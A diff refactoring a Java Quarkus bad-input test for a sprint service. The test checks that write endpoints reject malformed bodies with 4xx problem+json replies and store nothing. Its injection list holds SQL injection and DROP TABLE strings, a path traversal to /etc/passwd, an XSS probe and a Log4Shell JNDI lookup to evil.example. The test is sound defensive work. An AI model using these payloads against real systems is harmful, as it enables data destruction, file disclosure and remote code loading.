@@ -1,41 +1,32 @@
 package io.entente.sprint;
 
-import io.entente.platform.testing.BadInput;
 import io.entente.platform.testing.BadInput.Case;
+import io.entente.platform.testing.BadInputSweep;
 import io.entente.platform.testing.TestTokens;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.response.Response;
 import jakarta.inject.Inject;
 import jakarta.persistence.EntityManager;
 import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.MethodSource;
 
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
 
-import static io.entente.platform.testing.BadInput.abbreviate;
 import static io.entente.platform.testing.BadInput.common;
 import static io.entente.platform.testing.BadInput.field;
 import static io.entente.platform.testing.BadInput.str;
-import static io.entente.platform.testing.BadInput.with;
+import static io.entente.platform.testing.BadInput.strs;
 import static io.restassured.RestAssured.given;
-import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertTrue;
 
-/**
- * Bad input against every write of the sprint service: each answer is a 4xx problem+json, never a 5xx, and nothing
- * is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
- */
+/** Bad input against every write of the sprint service; see {@link BadInputSweep}. */
 @QuarkusTest
-class BadInputTest {
+class BadInputTest extends BadInputSweep {
 
     static final String USER = "bad-input";
     static final String TOKEN = TestTokens.user(USER).roles("admin").sign();
-    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "S-BAD; DROP TABLE sprint; --", "../../etc/passwd",
-            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "S-BAD\u0000"};
-
+    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "S-BAD; DROP TABLE sprint; --",
+            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "S-BAD\u0000");
 
     static final String TEAM = """
             {"name":"Bad input team","description":"d","disciplines":["GOVERNANCE"],"alliances":["ONC-HELIX"],
@@ -65,16 +56,13 @@ class BadInputTest {
         }
     }
 
-
-
-
-
-
-    static List<String> injections() {
-        return Stream.of(INJECTIONS).map(BadInput::str).toList();
+    @Override
+    protected String token() {
+        return TOKEN;
     }
 
-    static Stream<Case> cases() {
+    @Override
+    protected List<Case> cases() {
         List<Case> all = new ArrayList<>();
         String teams = "/api/teams";
         all.addAll(common("POST", teams, TEAM, "name"));
@@ -83,7 +71,7 @@ class BadInputTest {
                 "[null]"));
         all.addAll(field("POST", teams, TEAM, "alliances", null, "[]", "[\"onc-helix\"]"));
         all.addAll(field("POST", teams, TEAM, "alliances",
-                injections().stream().map(s -> "[" + s + "]").toArray(String[]::new)));
+                Stream.of(INJECTIONS).map(s -> "[" + s + "]").toArray(String[]::new)));
         all.addAll(field("POST", teams, TEAM, "members", null, "[]", "[{}]",
                 "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":5.01}]",
                 "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":-1}]",
@@ -123,29 +111,27 @@ class BadInputTest {
         all.add(new Case("state to nowhere", "PUT", "/api/sprints/{sprint}/state", "application/json",
                 "{\"state\":\"PARTY\"}"));
         all.add(new Case("state missing", "PUT", "/api/sprints/{sprint}/state", "application/json", "{}"));
-        return all.stream();
+        return all;
     }
 
-    long[] counts() {
-        String[] tables = {"team", "team_member", "sprint", "sprint_capacity", "sprint_item"};
-        long[] counts = new long[tables.length + 3];
-        for (int i = 0; i < tables.length; i++) {
-            counts[i] = count("select count(*) from " + tables[i]);
+    @Override
+    protected List<Long> stored() {
+        List<String> sql = new ArrayList<>();
+        for (String table : List.of("team", "team_member", "sprint", "sprint_capacity", "sprint_item")) {
+            sql.add("select count(*) from " + table);
         }
-        counts[tables.length] = count("select count(*) from audit_log where actor = '" + USER + "'");
-        counts[tables.length + 1] = count("select coalesce(sum(version), 0) from team");
-        counts[tables.length + 2] = count("select coalesce(sum(version), 0) from sprint");
-        return counts;
+        sql.add("select count(*) from audit_log where actor = '" + USER + "'");
+        sql.add("select coalesce(sum(version), 0) from team");
+        sql.add("select coalesce(sum(version), 0) from sprint");
+        return sql.stream().map(this::count).toList();
     }
 
     long count(String sql) {
         return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
     }
 
-    @ParameterizedTest(name = "{0}")
-    @MethodSource("cases")
-    void refusedWith4xxProblemAndNothingStored(Case c) {
-        long[] before = counts();
+    @Override
+    protected Response send(Case c) {
         String path = c.path().replace("{team}", teamId).replace("{sprint}", sprintId);
         String body = c.body().replace("{team}", teamId);
         var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(body);
@@ -154,27 +140,12 @@ class BadInputTest {
                     : path;
             request = request.header("If-Match", given().auth().oauth2(TOKEN).get(readPath).header("ETag"));
         }
-        Response r = request.request(c.method(), path);
-        String text = r.asString();
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
-                c + " answered " + r.statusCode() + ": " + abbreviate(text));
-        assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
-                c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(text));
-        assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
-        assertTrue(!text.contains("Exception") && !text.contains("org.hibernate"), "no internals: " + text);
-        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
+        return request.request(c.method(), path);
     }
 
-    static Stream<String> badQueries() {
-        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage",
-                "teamId=not-a-uuid", "state=PARTY", "limit=99999999999");
-    }
-
-    @ParameterizedTest(name = "GET /api/sprints?{0}")
-    @MethodSource("badQueries")
-    void badQueriesAre4xx(String query) {
-        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/sprints?" + query);
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
-        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+    @Override
+    protected List<String> badQueries() {
+        return queries("/api/sprints", "limit=0", "limit=201", "limit=abc", "after=garbage", "teamId=not-a-uuid",
+                "state=PARTY", "limit=99999999999");
     }
 }
